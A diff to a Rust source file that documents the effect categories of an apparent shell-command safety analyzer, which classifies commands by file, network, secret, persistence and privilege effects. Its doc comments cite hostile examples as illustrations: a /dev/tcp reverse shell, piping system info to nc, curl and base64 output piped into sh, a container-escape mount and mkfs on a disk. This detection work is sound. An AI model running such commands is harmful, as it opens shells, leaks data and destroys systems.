@@ -18,17 +18,21 @@
 use crate::ir::Span;
 use crate::value::Value;
 
-/// Something that an invocation does.
+/// Something that an invocation does to the world outside of itself.
+///
+/// A variant says what happens, and its fields say to what. Fields that a person reads (`what`,
+/// `how`, `why`) hold a few words and no secret.
 #[derive(Clone, Debug, PartialEq)]
 pub enum Effect {
-    /// It does something with a file or folder.
+    /// It does something with a file or folder: `rm x`, `> out`, `cat /etc/passwd`.
     File(FileEffect),
-    /// It writes to a disk itself, mounts, partitions, or makes a file system.
+    /// It works on a disk itself: it writes to one, mounts, partitions, or makes a file system
+    /// (`mkfs.ext4 /dev/sda1`).
     Device {
         /// What is done, for a reader: `mkfs`.
         what: String,
     },
-    /// It sends to, or fetches from, another machine.
+    /// It sends something to another machine, or fetches something from it: `curl`, `git push`.
     Network {
         /// The host, as far as it is known.
         host: Value,
@@ -39,88 +43,91 @@ pub enum Effect {
         /// What is sent.
         sends: Payload,
     },
-    /// It waits for others to connect.
+    /// It waits for others to connect: `nc -l 80`, `python3 -m http.server`.
     Listen {
         /// The port, if it is written.
         port: Option<u16>,
     },
-    /// It runs code that is not this command's text.
+    /// It runs code that is not the text of this command: a script in a file, a package, standard
+    /// input.
     Code {
         /// Where the code comes from.
         from: CodeFrom,
     },
-    /// It runs something that is not known, because a word is not known.
+    /// It runs something that is not known, because a word is not known: `$CMD`, `eval "$x"`.
     Dynamic {
         /// Which word is not known, for a reader.
         why: String,
     },
-    /// It becomes another user, or gives itself more rights.
+    /// It becomes another user, or gives itself more rights: `sudo`, `setcap`.
     Privilege {
         /// By which program.
         how: String,
     },
-    /// It changes users or groups.
+    /// It changes users or groups: `useradd`, `passwd`.
     Users,
-    /// It changes how the machine runs.
+    /// It changes how the machine runs: power, services, the kernel, the firewall, the clock.
     System(SystemChange),
-    /// It ends processes.
+    /// It ends processes: `kill`, `pkill`.
     Kill {
         /// True if it ends more than it names one by one.
         all: bool,
         /// The process, or the name of it.
         what: Value,
     },
-    /// It makes something run later or at each start.
+    /// It makes something run later, or at each start: `crontab`, a line in `.bashrc`.
     Persistence(Persistence),
-    /// It sets a variable that changes what later programs run.
+    /// It sets a variable that changes what later programs run, load or trust: `LD_PRELOAD`,
+    /// `GIT_SSH_COMMAND`.
     EnvironmentInjection {
         /// The variable.
         name: String,
         /// What it is set to.
         value: Value,
     },
-    /// It reads a secret.
+    /// It reads a secret: a key file, a variable with a token, a store of passwords.
     Secret {
         /// What kind of secret, for a reader.
         kind: String,
         /// Where it stands, if it is a file.
         path: Option<Value>,
     },
-    /// It shows the environment.
+    /// It shows the whole environment: `env`, `printenv`, `export -p`.
     EnvironmentDump,
-    /// What is here is sent away: a source and a network that hang together.
+    /// It sends away what is on this machine. Several invocations together do this: one reads,
+    /// another sends.
     Leak(Leak),
-    /// It takes traces away.
+    /// It changes the history of commands, which takes traces away.
     History,
-    /// It reaches out of a container, or into the kernel's own files.
+    /// It reaches out of a container, or into files of the kernel: `docker run -v /:/host`.
     ContainerEscape {
         /// By what, for a reader.
         how: String,
     },
-    /// It uses up the machine: a fork bomb.
+    /// It starts copies of itself without end: a fork bomb.
     Bomb,
-    /// It changes something at a cloud provider.
+    /// It changes something at a cloud provider: `aws s3 rm`, `terraform apply`.
     Cloud {
         /// Whose cloud.
         provider: String,
         /// True if something is deleted.
         destroys: bool,
     },
-    /// It drops or empties a database.
+    /// It changes a database: `DROP TABLE`, `redis-cli flushall`.
     Database {
         /// True if data are deleted.
         destroys: bool,
     },
-    /// It loses work in a repository: `reset --hard`, `clean -f`.
+    /// It may lose work that is not committed: `git reset --hard`, `git clean -f`.
     VersionControlLoss,
-    /// It changes a repository on another machine.
+    /// It changes a repository on another machine: `git push`.
     VersionControlRemote {
         /// True if it overwrites what is there.
         forced: bool,
         /// True if it deletes a branch or a tag there.
         deletes: bool,
     },
-    /// It installs or removes packages.
+    /// It installs or removes packages, whose scripts run: `apt install`, `npm install`.
     Package {
         /// By which program.
         manager: String,
@@ -129,13 +136,13 @@ pub enum Effect {
         /// True if it installs; false if it removes.
         installs: bool,
     },
-    /// It looks around in the network.
+    /// It explores a network, or tunnels through it: `nmap`, `ssh -D`.
     Recon,
-    /// It mines.
+    /// It mines a currency.
     Mining,
-    /// A shell is joined to a connection.
+    /// It joins a shell to a network connection: `bash -i >& /dev/tcp/h/1 0>&1`.
     RemoteShell,
-    /// The program is not known, or an option of it is not.
+    /// The program has no model, or an option of it is not known, so it may do anything.
     Unmodelled {
         /// The program.
         program: String,
@@ -144,29 +151,29 @@ pub enum Effect {
     },
 }
 
-/// What is sent away.
+/// What is sent away, the worst last.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
 pub enum Leak {
-    /// A file, or what a program says of this machine.
+    /// A file, or what a program says of this machine: `uname -a | nc h 1`.
     Local,
-    /// The environment.
+    /// The environment, which usually holds secrets.
     Environment,
     /// A secret.
     Secret,
 }
 
-/// What is done with a file.
+/// What is done with a file or folder, and where it is.
 #[derive(Clone, Debug, PartialEq)]
 pub struct FileEffect {
-    /// What.
+    /// What is done with it.
     pub access: Access,
-    /// The path, absolute and without `.` and `..` where it is known.
+    /// The path, absolute and without `.` and `..`, as far as it is known.
     pub path: Value,
-    /// Where that is.
+    /// Whose place the path is. Judges decide by this and seldom by the path.
     pub scope: Scope,
-    /// True if all that is below is meant as well.
+    /// True if everything below is meant as well: `rm -r`, `grep -r`.
     pub recursive: bool,
-    /// True if nothing is asked and nothing can stop it: `-f`.
+    /// True if nothing asks and nothing stops it: `rm -f`.
     pub forced: bool,
 }
 
@@ -175,151 +182,155 @@ pub struct FileEffect {
 pub enum Access {
     /// Its content is read.
     Read,
-    /// Its name or its metadata is read: `ls`, `stat`.
+    /// Its name or its metadata is read: `ls`, `stat`, `test -f`.
     List,
-    /// Its content is changed, or it is made.
+    /// Its content is changed, or it is created.
     Write,
     /// It is deleted.
     Delete,
-    /// Its mode, owner, times or attributes are changed.
+    /// Its mode, owner, times or attributes are changed: `chmod`, `touch`.
     Meta,
-    /// It is moved away.
+    /// It is moved away. What happens at the other end is a [`Access::Write`].
     Move,
-    /// A link to it is made.
+    /// A link is created at this path.
     Link,
-    /// It is run.
+    /// It is run as a program or read as code.
     Execute,
 }
 
-/// Where a path is.
+/// Whose place a path is. [`crate::place::scope`] decides it.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
 pub enum Scope {
-    /// In the workspace.
+    /// A file or folder within the workspace that is not protected.
     Workspace,
-    /// The workspace itself, or a folder above it.
+    /// The workspace itself, or a folder above it: whoever changes one changes the workspace.
     WorkspaceRoot,
-    /// In the workspace, what version control runs or believes: `.git/hooks`, `.git/config`.
+    /// What version control in the workspace runs or trusts: `.git/hooks`, `.git/config`.
     VersionControl,
-    /// What agents, editors, shells and package managers obey or run when they start: `AGENTS.md`,
-    /// `.claude`, `.vscode`, `.npmrc`.
+    /// What agents, editors, shells and package managers obey or run when they start in the
+    /// workspace: `AGENTS.md`, `.claude`, `.vscode`, `.npmrc`.
     AgentConfig,
     /// A folder for temporary files.
     Temp,
-    /// A folder that the owner lets agents read.
+    /// A folder that the owner lets agents read and not write.
     ReadRoot,
-    /// In the home folder.
+    /// Anything else in a home folder.
     Home,
-    /// What starts with a log-in or a shell: `.bashrc`, `.profile`, autostart.
+    /// What runs when a shell, a session or the machine starts: `.bashrc`, `.profile`, autostart,
+    /// `/etc/profile.d`.
     Startup,
     /// Keys, tokens, passwords: `~/.ssh`, `~/.aws`, `.env`, `/etc/shadow`.
     Secret,
-    /// Of the system: `/etc`, `/usr`, `/var`, `/`.
+    /// Anything else outside of the workspace: `/etc`, `/usr`, `/var`, `/srv`.
     System,
-    /// A device that is no disk: `/dev/null`, a terminal.
+    /// A device that keeps nothing: `/dev/null`, a terminal.
     HarmlessDevice,
-    /// Another device.
+    /// Any other device: a disk, memory.
     Device,
-    /// `/proc` and `/sys`.
+    /// `/proc` and `/sys`, by which the kernel is read and set.
     Kernel,
-    /// What the owner denies.
+    /// A path that the owner denies, whatever else it is.
     Denied,
-    /// It is not known.
+    /// The path is not known well enough to say.
     Unknown,
 }
 
-/// What a program sends away.
+/// What a program sends to another machine, besides the request.
 #[derive(Clone, Debug, PartialEq)]
 pub enum Payload {
-    /// Nothing but the request.
+    /// Nothing.
     None,
-    /// A text of the command.
+    /// A text that stands in the command.
     Text,
-    /// A file.
+    /// The content of a file.
     File(Value),
-    /// What it reads on standard input.
+    /// What the program reads on standard input.
     Stdin,
 }
 
-/// Where code comes from.
+/// Where code comes from that a program runs.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum CodeFrom {
     /// A file, whose path is an effect of its own.
     File,
-    /// The text of the command, in this language: `python -c`.
+    /// The text of the command, in this language: `python -c`. It was searched as far as the
+    /// language is known.
     Inline(String),
     /// Standard input.
     Stdin,
-    /// The network, straight away.
+    /// The network, without a file between: `curl … | sh`.
     Network,
-    /// Something that was decoded.
+    /// The output of a decoder: `base64 -d | sh`.
     Decoded,
     /// A file that was fetched or written by the same command.
     Fetched,
-    /// A script of a package or a build file: `npm test`, `make`.
+    /// A script of a package or a build file, by the program that runs it: `npm test`, `make`.
     Project(String),
-    /// A package that is fetched to be run: `npx`, `uvx`.
+    /// A package that is fetched in order to run it: `npx`, `uvx`.
     Package(String),
-    /// A setting or a variable names it: a hook, a pager, an alias.
+    /// A setting, an option or a variable that names a command: a hook, a pager, an alias.
     Setting(String),
 }
 
-/// How a machine is changed.
+/// How a command changes the machine as a whole.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
 pub enum SystemChange {
-    /// Off, on again, asleep.
+    /// It turns the machine off or on, or lets it sleep.
     Power,
-    /// Services are started, stopped, enabled.
+    /// It starts, stops or enables services.
     Service,
-    /// Modules, parameters of the kernel.
+    /// It loads modules or sets parameters of the kernel.
     Kernel,
-    /// Who may connect.
+    /// It changes who may connect.
     Firewall,
-    /// The clock.
+    /// It sets the clock.
     Clock,
-    /// Something else.
+    /// It changes something else.
     Other,
 }
 
-/// What runs later.
+/// How something is made to run later.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
 pub enum Persistence {
-    /// `crontab`, `at`, timers.
+    /// By a schedule: `crontab`, `at`, timers.
     Schedule,
-    /// A service.
+    /// As a service.
     Service,
-    /// A file that a shell or a session reads when it starts.
+    /// By a file that a shell or a session reads when it starts.
     Startup,
-    /// A hook of version control.
+    /// By a hook of version control.
     Hook,
-    /// Who may log in.
+    /// By changing who may log in.
     LogIn,
-    /// A program that stands before another in the path.
+    /// By a program that stands before another one of the same name in `PATH`.
     Path,
 }
 
-/// How sure it is.
+/// How certain an effect is.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
 pub enum Certainty {
-    /// It may be, because something is not known.
+    /// It may happen, because something is not known.
     Unknown,
-    /// It depends on something: a branch, a file.
+    /// It happens or not, depending on something that the text does not decide: a branch, the
+    /// content of a file.
     May,
     /// It happens if the command runs.
     Must,
 }
 
-/// An effect with its evidence.
+/// An effect with its evidence: the invocation and the words that cause it.
 #[derive(Clone, Debug, PartialEq)]
 pub struct Found {
-    /// What.
+    /// The effect.
     pub effect: Effect,
-    /// How sure.
+    /// How certain it is.
     pub certainty: Certainty,
-    /// The number of the invocation that has it; none: the shell itself, by a redirection or builtin.
+    /// The number of the invocation that has it. None: the shell itself has it, by a redirection or
+    /// a builtin.
     pub by: Option<usize>,
-    /// The program, for a reader: `rm`.
+    /// The program as it is called, for a person: `rm`.
     pub program: String,
-    /// The words that cause it.
+    /// The place of the words that cause it.
     pub span: Span,
 }
 
